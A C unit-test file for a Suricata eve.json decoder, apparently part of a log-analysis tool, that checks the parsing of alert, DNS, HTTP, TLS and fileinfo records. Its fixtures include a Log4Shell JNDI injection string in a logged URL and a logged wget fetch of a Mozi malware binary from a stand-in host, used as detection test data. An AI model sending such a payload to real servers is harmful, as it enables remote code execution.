/*
 * Unit tests of the Suricata eve.json decoder.
 */
#include "vg_test.h"
#include "logfmt.h"

static bool
has_obs(const struct vg_event *ev, enum vg_obs_kind kind, const char *text)
{
	struct vg_addr a;
	unsigned i;

	for (i = 0; i < ev->ev_nobs; i++) {
		const struct vg_obs *o = &ev->ev_obs[i];

		if (o->ob_kind != kind)
			continue;
		if (kind == VG_OBS_IP && vg_addr_parse(vg_str_make(text,
		    strlen(text)), &a) && vg_addr_eq(&o->ob_addr, &a))
			return true;
		if (vg_str_eq(o->ob_value, text, strlen(text)))
			return true;
	}
	return false;
}

VG_TEST(logfmt_suricata_alert)
{
	struct vg_event *ev = vg_test_decode("{\"timestamp\":\"2023-03-01T08:"
	    "15:22.412318+0100\",\"flow_id\":1130426457093187,\"in_iface\":"
	    "\"ens18\",\"event_type\":\"alert\",\"src_ip\":\"45.155.205.233\","
	    "\"src_port\":51634,\"dest_ip\":\"193.200.130.243\",\"dest_port\":"
	    "80,\"proto\":\"TCP\",\"alert\":{\"action\":\"allowed\",\"gid\":1,"
	    "\"signature_id\":2034647,\"rev\":2,\"signature\":\"ET EXPLOIT "
	    "Apache log4j RCE Attempt\",\"category\":\"Attempted Administrator "
	    "Privilege Gain\",\"severity\":1},\"http\":{\"hostname\":"
	    "\"www.victim.example\",\"url\":\"/?x=${jndi:ldap://45.155.205.233:"
	    "12344/a}\",\"http_method\":\"GET\",\"length\":0}}");

	ASSERT_STR_EQ(ev->ev_dataset, "suricata");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_IDS_ALERT);
	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2023-03-01T07:15:22.412318Z");
	ASSERT_VIEW_EQ(ev->ev_severity, "1");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "45.155.205.233");
	ASSERT_INT_EQ(ev->ev_src_port, 51634);
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_dst), "193.200.130.243");
	ASSERT_INT_EQ(ev->ev_dst_port, 80);
	ASSERT_STR_EQ(vg_test_extra(ev, "suricata.signature"),
	    "ET EXPLOIT Apache log4j RCE Attempt");
	ASSERT_STR_EQ(vg_test_extra(ev, "suricata.signature_id"), "2034647");
	ASSERT_STR_EQ(vg_test_extra(ev, "suricata.category"),
	    "Attempted Administrator Privilege Gain");
	ASSERT_STR_EQ(vg_test_extra(ev, "suricata.flow_id"),
	    "1130426457093187");
	/* The alert's flow names its URL; "://" in the query is no scheme. */
	ASSERT_VIEW_EQ(ev->ev_url, "http://www.victim.example/?x=${jndi:"
	    "ldap://45.155.205.233:12344/a}");
	ASSERT_VIEW_EQ(ev->ev_http_method, "GET");
	ASSERT_TRUE(has_obs(ev, VG_OBS_DOMAIN, "www.victim.example"));
}

VG_TEST(logfmt_suricata_dns)
{
	struct vg_event *ev;

	/* v1 query record. */
	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T08:17:"
	    "10.528811+0000\",\"event_type\":\"dns\",\"src_ip\":\"10.1.1.23\","
	    "\"src_port\":53122,\"dest_ip\":\"10.1.1.1\",\"dest_port\":53,"
	    "\"proto\":\"UDP\",\"dns\":{\"type\":\"query\",\"id\":1,\"rrname\":"
	    "\"c2.badhost.example\",\"rrtype\":\"A\",\"tx_id\":0}}");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_DNS_QUERY);
	ASSERT_VIEW_EQ(ev->ev_domain, "c2.badhost.example");
	ASSERT_STR_EQ(vg_test_extra(ev, "dns.question.type"), "A");
	/* v2 answer: the resolved address is an observable. */
	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T08:17:"
	    "10.531904+0000\",\"event_type\":\"dns\",\"src_ip\":\"10.1.1.1\","
	    "\"dest_ip\":\"10.1.1.23\",\"dns\":{\"version\":2,\"type\":"
	    "\"answer\",\"rrname\":\"c2.badhost.example\",\"rcode\":"
	    "\"NOERROR\",\"answers\":[{\"rrname\":\"c2.badhost.example\","
	    "\"rrtype\":\"A\",\"ttl\":60,\"rdata\":\"203.0.113.45\"}]}}");
	ASSERT_VIEW_EQ(ev->ev_domain, "c2.badhost.example");
	ASSERT_STR_EQ(vg_test_extra(ev, "dns.response_code"), "NOERROR");
	ASSERT_TRUE(has_obs(ev, VG_OBS_IP, "203.0.113.45"));
	/* v2 grouped only. */
	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T08:17:10Z\","
	    "\"event_type\":\"dns\",\"dns\":{\"version\":2,\"type\":\"answer\","
	    "\"rrname\":\"x.example\",\"grouped\":{\"AAAA\":[\"2001:db8::"
	    "53\"]}}}");
	ASSERT_TRUE(has_obs(ev, VG_OBS_IP, "2001:db8::53"));
	/* v3: queries[]. */
	ev = vg_test_decode("{\"timestamp\":\"2024-05-12T22:01:44.1+0000\","
	    "\"event_type\":\"dns\",\"dns\":{\"version\":3,\"type\":"
	    "\"request\",\"queries\":[{\"rrname\":\"update.example.net\","
	    "\"rrtype\":\"AAAA\"}]}}");
	ASSERT_VIEW_EQ(ev->ev_domain, "update.example.net");
	ASSERT_STR_EQ(vg_test_extra(ev, "dns.question.type"), "AAAA");
}

VG_TEST(logfmt_suricata_http_tls_files)
{
	struct vg_event *ev;

	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T09:02:"
	    "11.774212+0000\",\"event_type\":\"http\",\"src_ip\":\"10.1.1.23\","
	    "\"src_port\":49712,\"dest_ip\":\"198.51.100.80\",\"dest_port\":"
	    "8080,\"http\":{\"hostname\":\"dl.badhost.example\",\"url\":\"/"
	    "bins/mozi.m\",\"http_user_agent\":\"Wget/1.21\",\"http_method\":"
	    "\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":"
	    "307960}}");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
	ASSERT_VIEW_EQ(ev->ev_url,
	    "http://dl.badhost.example:8080/bins/mozi.m");
	ASSERT_INT_EQ(ev->ev_http_status, 200);
	ASSERT_INT_EQ(ev->ev_bytes, 307960);
	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"), "Wget/1.21");
	/* TLS: the SNI is the name looked up. */
	ev = vg_test_decode("{\"timestamp\":\"2023-02-28T11:56:"
	    "00.038810+0000\",\"event_type\":\"tls\",\"src_ip\":\"2001:db8::"
	    "1\",\"dest_ip\":\"2001:db8::2\",\"dest_port\":443,\"tls\":"
	    "{\"sni\":\"cv.mathming.ltd\",\"version\":\"TLS 1.2\",\"ja3\":"
	    "{\"hash\":\"89b4e5027ea91ece75eb2821b79de0e0\"}}}");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_TLS);
	ASSERT_VIEW_EQ(ev->ev_domain, "cv.mathming.ltd");
	ASSERT_STR_EQ(vg_test_extra(ev, "tls.server_name"), "cv.mathming.ltd");
	ASSERT_STR_EQ(vg_test_extra(ev, "tls.client.ja3"),
	    "89b4e5027ea91ece75eb2821b79de0e0");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::1");
	/* fileinfo: sha256 in the slot, md5 as an observable. */
	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T09:02:12Z\",\"event_ty"
	    "pe\":\"fileinfo\",\"fileinfo\":{\"filename\":\"/x\",\"md5\":\"0b2b"
	    "6b9a3b0e6cf0f9e6a1c5f5d2a3e4\",\"sha256\":\"9e2b8c7d6a5f4e3d2c1b0a"
	    "99887766554433221100ffeeddccbbaa9988776655\",\"size\":7}}");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_FILE_TRANSFER);
	ASSERT_VIEW_EQ(ev->ev_hash, "9e2b8c7d6a5f4e3d2c1b0a99887766554433221100"
	    "ffeeddccbbaa9988776655");
	ASSERT_TRUE(has_obs(ev, VG_OBS_HASH,
	    "0b2b6b9a3b0e6cf0f9e6a1c5f5d2a3e4"));
	ASSERT_STR_EQ(vg_test_extra(ev, "file.size"), "7");
}

VG_TEST(logfmt_suricata_malformed)
{
	static const char *const foreign[] = {
		/* Truncated, broken, or not eve at all. */
		("{\"timestamp\":\"2023-03-01T09:09:00Z\",\"event_type\":"
		    "\"flow\",\"src_ip\":\"192.0.2.9\",\"flow\":{\"pkts\":1,"),
		"{\"timestamp\":\"2023-03-01T09:10:00Z\",\"event_type\":",
		"{\"event_type\":42,\"src_ip\":\"192.0.2.9\"}",
		"{\"event_type\":\"\"}",
		"[\"event_type\",\"alert\"]",
		"{\"a\":1} {\"event_type\":\"alert\"}",
		"{\"src_ip\":\"192.0.2.9\",\"event_type\" : \"flow\"",
		"not json \"event_type\"",
	};
	static struct vg_event ev, copy;
	struct vg_logsrc ls;
	size_t i;

	vg_logsrc_init(&ls, "x");
	for (i = 0; i < VG_ARRAY_LEN(foreign); i++) {
		vg_event_reset(&ev);
		ev.ev_time = 777;
		memcpy(&copy, &ev, sizeof(ev));
		ASSERT_INT_EQ(vg_logfmt_suricata.lf_line(&ls,
		    vg_str_make(foreign[i], strlen(foreign[i])), &ev),
		    VG_ERR_FORMAT);
		ASSERT_TRUE(memcmp(&ev, &copy, sizeof(ev)) == 0);
	}
	/* A NUL escape inside a string is legal JSON and kept. */
	ASSERT_STR_EQ(vg_test_decode("{\"timestamp\":\"2023-03-01T09:08:00Z\","
	    "\"event_type\":\"alert\",\"src_ip\":\"192.0.2.1\",\"alert\":{"
	    "\"signature\":\"a\\u0000b\",\"severity\":3}}")->ev_dataset,
	    "suricata");
	ASSERT_INT_EQ(vg_test_decode("{\"timestamp\":\"2023-03-01T09:08:00Z\","
	    "\"event_type\":\"alert\",\"alert\":{\"signature\":\"a\\u0000b\"}}"
	    )->ev_extra[1].ex_value.len, 3);
	/* Bad addresses and ports are left unset, not guessed. */
	ASSERT_INT_EQ(vg_test_decode("{\"timestamp\":\"x\",\"event_type\":"
	    "\"flow\",\"src_ip\":\"999.1.1.1\",\"src_port\":"
	    "70000}")->ev_src_port, -1);
}

/*
 * The real sample: the records of each event_type, counted by the
 * decoder, match a plain count of the "event_type":"X" text in the file.
 */
VG_TEST(logfmt_suricata_real_counts)
{
	static const char *const types[] = { "flow", "ssh", "tls", "stats",
	    "alert", "dns", "http" };
	const char *path = vg_test_shared("logs/suricata/"
	    "eve_internet_sensor.json");
	static struct vg_event ev;
	size_t counted[VG_ARRAY_LEN(types)], expect, len, i, events = 0;
	size_t flows = 0;
	struct vg_logsrc ls;
	const char *p, *end, *q;
	struct vg_str line;
	char needle[64], *buf;

	if (path == NULL)
		VG_SKIP("no ../shared");
	buf = vg_test_read(path, &len);
	memset(counted, 0, sizeof(counted));
	vg_logsrc_init(&ls, path);
	for (p = buf, end = buf + len;
	    vg_test_decode_next(&ls, &p, end, &ev, &line);) {
		if (ev.ev_dataset == NULL ||
		    strcmp(ev.ev_dataset, "suricata") != 0)
			continue;
		events++;
		flows += ev.ev_action == VG_ACT_FLOW;
		for (i = 0; i < VG_ARRAY_LEN(types); i++)
			if (ev.ev_nextra > 0 && strcmp(ev.ev_extra[0].ex_name,
			    "suricata.event_type") == 0 && vg_str_eq(
			    ev.ev_extra[0].ex_value, types[i],
			    strlen(types[i])))
				counted[i]++;
	}
	vg_logsrc_cleanup(&ls);
	for (i = 0; i < VG_ARRAY_LEN(types); i++) {
		snprintf(needle, sizeof(needle), "\"event_type\":\"%s\"",
		    types[i]);
		expect = 0;
		for (q = buf; (q = memmem(q, len - (size_t)(q - buf), needle,
		    strlen(needle))) != NULL; q++)
			expect++;
		ASSERT_UINT_EQ(counted[i], expect);
		if (strcmp(types[i], "flow") == 0)
			ASSERT_UINT_EQ(flows, expect);
	}
	/* Every line of the file is an eve record. */
	expect = 0;
	for (q = buf; (q = memchr(q, '\n', len - (size_t)(q - buf))) != NULL;
	    q++)
		expect++;
	ASSERT_UINT_EQ(events, expect);
	free(buf);
}
